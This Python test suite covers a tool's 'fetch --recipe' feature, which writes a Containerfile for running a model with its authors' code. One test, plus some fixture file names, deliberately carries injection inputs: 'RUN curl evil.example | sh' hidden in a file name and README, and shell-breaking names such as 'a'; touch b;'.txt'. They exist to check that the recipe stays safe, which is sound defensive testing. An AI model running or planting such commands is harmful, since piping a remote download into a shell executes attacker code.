# SPDX-License-Identifier: MIT
"""``fetch --recipe``: what it takes to run a model with its authors' code; nothing of it is executed."""

import io
import json
import random
import re
import tarfile

import numpy as np
import pytest

from support import founding, hbb, zenodo_files
from support.containerfiles import check_paths
from support.weight_files import Files

pytestmark = pytest.mark.engines("sqlite")

TOP = hbb.TOP.rstrip("/")
README = """# Calorimeter network
Run this:
```bash
$ python evaluate.py --weights net.pt
echo done
```
python not_in_a_block.py
~~~
sh scripts/all.sh
~~~
"""
CONDA = "name: calo\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.9\n  - pytorch=1.13\n"
INSTRUCTIONS = ("FROM ", "USER ", "RUN ", "WORKDIR ", "COPY ", "CMD ", "#", "    && ")


def unknown_weights() -> bytes:
    """A PyTorch file of a network that no package of fairreg knows."""
    return Files().zipped({"calo.weight": np.ones((3, 2), np.float32)})


@pytest.fixture
def serve(httpserver):
    def served(**files):
        content = {"net.pt": unknown_weights(), "evaluate.py": b"raise SystemExit(9)"} | files
        hbb.serve(httpserver, hbb.archive(content))

    return served


def test_a_model_that_needs_its_authors_code_says_what_it_takes(cli, serve):
    serve(**{"README.md": README.encode(), "environment.yml": CONDA.encode()})
    result = cli("fetch", hbb.DOI, "--run")
    assert result.code == 1
    assert f"{hbb.DOI} needs its authors' code: {TOP}/net.pt is a PyTorch file" in result.err
    for fact in ("environment.yml", "python evaluate.py --weights net.pt", "--recipe FILE"):
        assert fact in result.err


def test_the_recipe_names_code_environment_weights_and_commands(cli, serve, tmp_path):
    serve(**{"README.md": README.encode(), "environment.yml": CONDA.encode()})
    target = tmp_path / "Containerfile"
    result = cli("fetch", hbb.DOI, "--run", "--recipe", target)
    assert result.code == 1
    assert f"is in {target}" in result.err
    text = target.read_text()
    assert f"{TOP}/net.pt (a PyTorch file (zip)), sha256:" in text
    assert f"micromamba install --yes --name base --file code/{TOP}/environment.yml" in text
    assert f"#   python evaluate.py --weights net.pt    ({TOP}/README.md)" in text
    assert f"#   sh scripts/all.sh    ({TOP}/README.md)" in text
    assert "not_in_a_block" not in text
    assert "echo done" not in text
    assert all(not line or line.startswith(INSTRUCTIONS) for line in text.splitlines())


def test_without_run_the_recipe_alone_is_written(cli, serve, tmp_path):
    serve(**{"requirements.txt": b"torch==1.13\n"})
    target = tmp_path / "recipe"
    result = cli("fetch", hbb.DOI, "--recipe", target, "--json")
    assert result.code == 0
    recipe = result.json["recipe"]
    assert recipe["path"] == str(target)
    assert recipe["record"] == result.json["id"]
    assert recipe["code"]["repository"] is not None
    assert "no command is documented" in " ".join(recipe["missing"]).lower()
    text = target.read_text()
    assert f"RUN pip install --no-cache-dir --requirement code/{TOP}/requirements.txt" in text
    assert "No version of Python is stated; 3.11 is an assumption." in text
    assert "No command is documented" in text


@pytest.mark.parametrize(
    ("name", "text", "base"),
    [
        ("pyproject.toml", '[project]\nname = "x"\nrequires-python = "<3.11,>=3.8"\n', "python:3.8-slim"),
        ("pyproject.toml", '[project]\nname = "x"\nrequires-python = "<3.11"\n', "python:3.11-slim"),
        ("pyproject.toml", '[project]\nname = "x"\nrequires-python = "~=3.9"\n', "python:3.9-slim"),
    ],
)
def test_the_version_of_python_is_one_that_is_asked_for(cli, serve, tmp_path, name, text, base):
    serve(**{name: text.encode()})
    assert cli("fetch", hbb.DOI, "--recipe", tmp_path / "recipe").code == 0
    written = (tmp_path / "recipe").read_text()
    assert f"FROM docker.io/library/{base}" in written
    assert ("is an assumption" in written) == (base == "python:3.11-slim")


def test_of_several_environments_the_highest_is_used_and_the_others_are_named(cli, serve, tmp_path):
    serve(**{"conda env/environment.yaml": CONDA.encode(), "environment.yml": CONDA.encode()})
    assert cli("fetch", hbb.DOI, "--recipe", tmp_path / "recipe").code == 0
    text = (tmp_path / "recipe").read_text()
    assert f"--file code/{TOP}/environment.yml" in text
    assert f"# Not used by this recipe: {TOP}/conda env/environment.yaml" in text


def test_what_is_not_there_is_said(cli, serve, tmp_path):
    serve()
    result = cli("fetch", hbb.DOI, "--recipe", tmp_path / "recipe")
    assert "No file that describes an environment was fetched" in result.err
    assert "No requirements were found" in (tmp_path / "recipe").read_text()


def test_a_model_that_runs_needs_no_recipe(cli, httpserver, tmp_path):
    founding.serve(httpserver, {"IN.onnx": founding.all_forms()["IN.onnx"]})
    result = cli("fetch", founding.DOI, "--run", "--recipe", tmp_path / "recipe")
    assert result.code == 0, result.err
    assert "no recipe was written" in result.err
    assert not (tmp_path / "recipe").exists()


def test_a_refused_program_gets_its_recipe_and_stays_refused(cli, httpserver, tmp_path):
    founding.serve(httpserver, {"IN_script.pt": founding.torchscript()})
    result = cli("fetch", founding.DOI, "--run", "--recipe", tmp_path / "recipe")
    assert result.code == 1
    assert "TorchScript" in (tmp_path / "recipe").read_text()


def test_an_existing_file_is_kept_and_nothing_is_requested(cli, httpserver, tmp_path):
    (tmp_path / "recipe").write_text("mine")
    result = cli("fetch", hbb.DOI, "--recipe", tmp_path / "recipe")
    assert result.code == 2
    assert (tmp_path / "recipe").read_text() == "mine"
    assert not httpserver.log


def test_words_of_others_begin_no_instruction(cli, serve, tmp_path):
    name = "environment\nRUN curl evil.example | sh\n.yml"
    text = "```\npython x.py \\\nRUN curl evil.example\npython y.py\u2028RUN curl evil.example\n```\n"
    serve(**{name: CONDA.encode(), "README.md": text.encode(), "a'; touch b;'.txt": b"x"})
    assert cli("fetch", hbb.DOI, "--recipe", tmp_path / "recipe").code == 0
    lines = (tmp_path / "recipe").read_text().splitlines()
    assert lines[0].startswith("# Written by fairreg")
    assert all(not line or line.startswith(INSTRUCTIONS) for line in lines)
    assert not [line for line in lines if re.match(r"RUN curl", line)]
    copied = next(line for line in lines if line.startswith("COPY "))
    assert json.loads(copied.removeprefix("COPY ")) == ["files", "files/"]


def test_the_recipe_names_the_copies_that_a_fetch_makes(cli, httpserver, tmp_path):
    files = [
        ("a/code.zip", hbb.archive({"run.py": b"raise SystemExit(9)"})),
        ("b/code.zip", hbb.archive({"notes.txt": b"notes"})),
        ("env:1/requirements.txt", b"torch==1.13\n"),
        ("net.pt", unknown_weights()),
    ]
    pid = zenodo_files.serve(httpserver, files)
    out, target = tmp_path / "files", tmp_path / "recipe"
    result = cli("fetch", pid, "--output", out, "--recipe", target)
    assert result.code == 0, result.err
    named = re.findall(r"files/[\w./-]+\.(?:zip|txt)", target.read_text())
    assert named == ["files/a/code.zip", "files/requirements.txt"]
    assert all((tmp_path / path).is_file() for path in named)


def tarred(members: dict[str, bytes], mode: str = "w:gz") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


MEMBERS = {
    "requirements.txt": b"torch==1.13\n",
    "d/requirements.txt": b"numpy\n",
    "environment.yml": CONDA.encode(),
    "d/environment.yml": CONDA.encode(),
    "pyproject.toml": b'[project]\nname = "x"\n',
    "d/pyproject.toml": b'[project]\nname = "y"\n',
    "poetry.lock": b"x",
    "run.py": b"raise SystemExit(9)",
    "README.md": README.encode(),
    "net.pt": unknown_weights(),
    "odd name/requirements.txt": b"scipy\n",
    "requirements'; touch x;'.txt": b"scipy\n",
    "requirements\u2028.txt": b"scipy\n",
}


def recipe_of(cli, httpserver, folder, files):
    """Fetch a record of these files, and return its recipe and the paths that the recipe reads."""
    pid = zenodo_files.serve(httpserver, files)
    result = cli("fetch", pid, "--output", folder / "files", "--recipe", folder / "Containerfile")
    assert result.code == 0, result.err
    text = (folder / "Containerfile").read_text()
    return text, check_paths(text, folder)


@pytest.mark.sliced(5)
@pytest.mark.parametrize("seed", range(12))
def test_every_path_of_a_recipe_is_made_by_an_earlier_line(cli, httpserver, tmp_path, seed):
    choose = random.Random(seed)

    def some():
        names = choose.sample(sorted(MEMBERS), choose.randint(1, 5))
        return {name: MEMBERS[name] for name in names}

    files = list(some().items()) if choose.random() < 0.5 else []
    for number in range(choose.randint(0 if files else 1, 3)):
        pack, suffix = choose.choice([(zenodo_files.packed, "zip"), (tarred, "tar.gz")])
        files.append((f"{choose.choice(['a', 'b b'])}/{number}.{suffix}", pack(some())))
    recipe_of(cli, httpserver, tmp_path, files)


def test_requirements_in_an_archive_without_code_are_unpacked(cli, httpserver, tmp_path):
    files = [("all.zip", zenodo_files.packed({"d/environment.yml": CONDA.encode()}))]
    text, read = recipe_of(cli, httpserver, tmp_path, files)
    assert read == ["files/all.zip", "code-1/d/environment.yml"]
    assert "RUN git clone https://github.com/FAIR4HEP/hbb_interaction_network code\n" in text


def test_two_archives_get_a_folder_each(cli, httpserver, tmp_path):
    same = {"requirements.txt": b"torch\n", "run.py": b"x"}
    files = [("a.zip", zenodo_files.packed(same)), ("b.tar.gz", tarred(same))]
    _, read = recipe_of(cli, httpserver, tmp_path, files)
    assert read == [
        *("files/a.zip", "files/b.tar.gz"),
        *("code-1/requirements.txt", "code-2/requirements.txt"),
    ]


def test_requirements_and_code_may_be_in_archives_of_their_own(cli, httpserver, tmp_path):
    files = [
        ("env.zip", zenodo_files.packed({"requirements.txt": b"torch\n"})),
        ("src.zip", zenodo_files.packed({"run.py": b"x"})),
    ]
    _, read = recipe_of(cli, httpserver, tmp_path, files)
    assert read == ["files/env.zip", "files/src.zip", "code-1/requirements.txt"]


def test_an_archive_that_only_documents_a_command_is_unpacked(cli, httpserver, tmp_path):
    files = [("doc.zip", zenodo_files.packed({"README.md": README.encode()}))]
    assert recipe_of(cli, httpserver, tmp_path, files)[1] == ["files/doc.zip"]


def test_a_project_outside_archives_is_installed_from_the_fetched_files(cli, httpserver, tmp_path):
    text, _ = recipe_of(cli, httpserver, tmp_path, [("pyproject.toml", MEMBERS["pyproject.toml"])])
    assert "RUN pip install --no-cache-dir files\n" in text
